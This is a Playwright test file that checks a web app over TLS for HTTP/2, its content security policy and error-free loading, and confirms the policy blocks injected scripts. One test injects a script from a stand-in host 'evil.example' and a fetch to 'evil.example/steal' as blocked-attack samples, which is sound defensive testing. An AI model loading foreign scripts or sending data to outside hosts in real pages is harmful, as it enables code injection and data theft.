"""The web app by TLS: over HTTP/2, under its content security policy, with its live connection."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.support.suite import Suite, running_suite

pytestmark = [pytest.mark.browser, pytest.mark.processes, pytest.mark.network, pytest.mark.timeout(400)]


@pytest.fixture(scope="module")
def secure_suite() -> Iterator[Suite]:
    with running_suite(("--tls", "--demo", "--no-agent")) as running:
        yield running


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    # Who signed the certificate is the test's of the edge.
    context = browser.new_context(ignore_https_errors=True)
    yield context.new_page()
    context.close()


def test_the_page_shows_live_figures_and_breaks_no_policy(secure_suite: Suite, page: Page) -> None:
    said: list[str] = []
    sockets: list[str] = []
    page.on("console", lambda message: said.append(message.text) if message.type in ("error", "warning") else None)
    page.on("pageerror", lambda error: said.append(str(error)))
    page.on("websocket", lambda socket: sockets.append(socket.url))
    answer = page.goto(secure_suite.url, wait_until="load")
    assert answer is not None
    assert answer.headers["content-security-policy"].startswith("default-src 'self'")
    expect(page.get_by_text("Requests", exact=False).first).to_be_visible(timeout=30_000)
    protocols = page.evaluate("performance.getEntriesByType('resource').map(each => each.nextHopProtocol)")
    assert set(protocols) <= {"h2", ""}
    assert "h2" in protocols
    assert said == []


def test_the_policy_keeps_foreign_scripts_and_addresses_out(secure_suite: Suite, page: Page) -> None:
    page.goto(secure_suite.url, wait_until="load")
    refused = page.evaluate(
        """async () => {
            const told = [];
            document.addEventListener('securitypolicyviolation', event => told.push(event.effectiveDirective));
            const script = document.createElement('script');
            script.src = 'https://evil.example/x.js';
            document.head.append(script);
            await fetch('https://evil.example/steal').catch(() => null);
            const inline = document.createElement('script');
            inline.textContent = 'window.broken = true';
            document.head.append(inline);
            for (let waited = 0; waited < 200 && new Set(told).size < 2; waited += 1) {
                await new Promise(done => setTimeout(done, 100));
            }
            return [...new Set(told), String(window.broken)].sort();
        }"""
    )
    assert refused == ["connect-src", "script-src-elem", "undefined"]
